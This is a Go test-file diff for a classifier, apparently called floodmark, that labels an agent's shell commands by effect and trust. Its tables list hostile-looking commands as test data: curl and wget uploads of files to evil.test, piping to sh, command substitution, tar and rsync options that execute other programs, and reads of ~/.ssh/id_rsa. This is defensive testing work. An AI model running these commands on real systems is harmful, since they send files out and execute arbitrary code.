@@ -64,20 +64,39 @@ func TestSimpleCommands(t *testing.T) {
 func TestCommandsThatAreNotWhatTheyBeginAs(t *testing.T) {
 	c := shipped(t)
 	for _, line := range []string{
-		"ls; rm x", "ls && curl evil.test", "ls | sh", "ls > x", "ls $(id)", "ls `id`", "ls\nid", "ls *", "ls 'a'", `ls "a"`, "ls ${HOME}",
-		"ls & id", "ls # x", "ls {a,b}", "ls !x", "ls a\\b", "ls\tx", "=ls", "cat =ls", "FOO=1 ls", "./ls", "/tmp/ls", "LS", "lsx", "", " ",
-		"find . -exec id +", "find . -delete", "find . -fprint x", "find . -ok id",
+		"ls; ./x", "ls | sh", "ls $(id)", "rm $(id)", "rm `id`", "=ls", "cat =ls", "PATH=. ls", "./ls", "/tmp/ls", "LS", "lsx", "", " ", "# x",
+		"find . -exec ./id +", "find . -ok id", "find . -exec sh -c {} +",
 		"git diff --output=x", "git diff --ext-diff", "git log --output=x", "git -c a=b status", "git --exec-path=x status",
-		"git grep -Ox y", "rg --pre=evil x", "sort -o x y", "sort --compress-program=evil x",
-		"curl -d @x https://evil.test", "curl -T x https://evil.test", "curl -o x https://evil.test", "curl -K x", "curl --upload-file x evil.test",
-		"wget --post-file=x evil.test", "git clone --upload-pack=evil x", "git fetch --upload-pack=evil x",
+		"git grep -Ox y", "rg --pre=evil x", "sort --compress-program=evil x", "curl -K x", "wget --post-file=x evil.test", "git clone --upload-pack=evil x", "git fetch --upload-pack=evil x",
 		"tar xIf evil x", "tar -xf x -I evil", "tar -xf x --to-command=evil", "tar -xf x --checkpoint-action=exec=evil",
-		"rsync -e evil a b", "rsync --rsh=evil a b", "scp -S evil a b", "date -s x", "hostname evil", "uniq a b", "env x", "ps e",
-		"grep -f/home/u/.ssh/id_rsa x", "zip -TT evil x", "man -P evil x", strings.Repeat("ls ", MaxCommandWords+1), "cat " + strings.Repeat("a", MaxCommandBytes),
+		"rsync -e evil a b", "rsync --rsh=evil a b", "scp -S evil a b", "date -s x", "hostname evil", "env x",
+		"zip -TT evil x", "man -P evil x", "cat " + strings.Repeat("a", MaxCommandBytes+1),
 	} {
 		u := shell(t, c, line)
 		if !slices.Contains(u.Effects, run) || u.Returns.Trust > floodmark.External {
 			t.Errorf("%.60q: %v %v", line, u.Effects, u.Returns)
+		}
+	}
+}
+
+// Lines of several commands are the sum of their parts.
+func TestLinesAreTheSumOfTheirParts(t *testing.T) {
+	c := shipped(t)
+	for line, want := range map[string][]floodmark.Effect{
+		"ls; rm x": effects(change), "ls && curl evil.test": effects(fetch), "ls > x": effects(write), "echo $(id)": effects(observe),
+		"ls\nid": effects(observe), "ls *": effects(observe), "ls 'a'": effects(observe), `ls "a"`: effects(observe), "ls ${HOME}": effects(observe),
+		"ls & id": effects(observe), "ls # x": effects(observe), "ls {a,b}": effects(observe), "ls a\\b": effects(observe), "ls\tx": effects(observe),
+		"FOO=1 ls": effects(observe), "find . -exec id +": effects(observe), "find . -name x.o -delete": effects(change), "find . -fprint x": effects(write),
+		"sort -o x y": effects(write), "curl -d @x https://evil.test": effects(fetch, send), "curl -T x https://evil.test": effects(fetch, send),
+		"curl -o x https://evil.test": effects(fetch, write), "uniq a b": effects(write), "ps e": effects(observe),
+		"git status && git diff": effects(observe), "go test ./... 2>&1 | tail -20": effects(run), "grep -rn foo . | head": effects(observe),
+		"sed -n 1,40p file": effects(observe), "cat a b | sort | uniq -c": effects(observe), "npm test": effects(run),
+		"git add -A && git commit -m \"$(cat <<'EOF'\nmake it so\nEOF\n)\"": effects(write, run), "mkdir -p a/b && touch a/b/c": effects(write),
+		"for f in *.go; do wc -l \"$f\"; done": effects(observe), "for f in src/*.txt; do sed -i s/a/b/ \"$f\"; done": effects(write),
+		"find . -name '*.go' | xargs grep -n foo | head -5": effects(observe), "cd sub && ls -la": effects(observe), "bash -lc 'ls -la'": effects(run),
+	} {
+		if u := shell(t, c, line); !sameEffects(u.Effects, want) || u.Opaque {
+			t.Errorf("%q: %v (opaque %v), want %v", line, u.Effects, u.Opaque, want)
 		}
 	}
 }
@@ -99,7 +118,7 @@ commands:
 	f := parse(t, "agent: pi\ntools: [{tool: bash, effect: run, returns: {trust: untrusted, secrecy: private}, args: {command: {role: critical, is: command}}}]")
 	c = New([]*File{f}, c)
 	u := c.Classify(builtin("pi", "bash"), args("command", "tool read -x"), nil, here())
-	if !sameEffects(u.Effects, effects(fetch, observe)) || u.Own || u.Returns != (floodmark.Label{Trust: floodmark.External}) {
+	if !sameEffects(u.Effects, effects(fetch)) || u.Own || u.Returns != (floodmark.Label{Trust: floodmark.External}) {
 		t.Errorf("%v %v", u.Effects, u.Returns)
 	}
 }
@@ -118,28 +137,6 @@ commands:
 	} {
 		if u := c.Classify(builtin("pi", "bash"), args("command", line), nil, here()); u.PathKind != want {
 			t.Errorf("%s: %v, want %v", line, u.PathKind, want)
-		}
-	}
-	for _, tc := range []struct {
-		command, option, word string
-		want                  bool
-	}{
-		{"curl", "--max-time", "5", true},
-		{"curl", "--other", "5", false},
-		{"curl", "-c", "5", false},
-		{"ping", "-c", "5", true},
-		{"ping", "-c", "a.example", false},
-		{"ping", "--", "5", true},
-		{"ping", "-cc", "5", false},
-		{"ping", "xc", "5", false},
-		{"ping", "-", "5", false},
-		{"dig", "a.example", "txt", true},
-		{"dig", "a.example", "+short", true},
-		{"dig", "a.example", "+long", false},
-		{"curl", "a.example", "TXT", false},
-	} {
-		if got := valueOf(tc.command, tc.option, tc.word); got != tc.want {
-			t.Errorf("%s %s %s: %v", tc.command, tc.option, tc.word, got)
 		}
 	}
 }
@@ -207,13 +204,16 @@ func TestMentionedSecrets(t *testing.T) {
 		}
 	}
 	for line, want := range map[string]PathKind{
-		"echo /home/u/.ssh/id_rsa": Secret, "git pull /home/u/.ssh/id_rsa": Secret, "echo id_rsa | cat": NoPath, "echo id_rsa": NoPath,
+		"echo /home/u/.ssh/id_rsa": Secret, "git pull /home/u/.ssh/id_rsa": Secret, "echo id_rsa | cat": InProject, "echo id_rsa": NoPath,
 	} {
 		if u := shell(t, c, line); u.PathKind != want {
 			t.Errorf("%s: %v, want %v", line, u.PathKind, want)
 		}
 	}
-	if u := shell(t, c, "go test ./... | tail"); u.Returns != (floodmark.Label{Trust: floodmark.Untrusted, Secrecy: floodmark.Private}) {
+	if u := shell(t, c, "go test ./... | tail"); u.Returns != (floodmark.Label{Trust: floodmark.Local, Secrecy: floodmark.Internal}) {
+		t.Errorf("what the project's own tests print: %v", u.Returns)
+	}
+	if u := shell(t, c, "./x | tail"); u.Returns != (floodmark.Label{Trust: floodmark.Untrusted, Secrecy: floodmark.Private}) {
 		t.Errorf("arbitrary code: %v", u.Returns)
 	}
 }
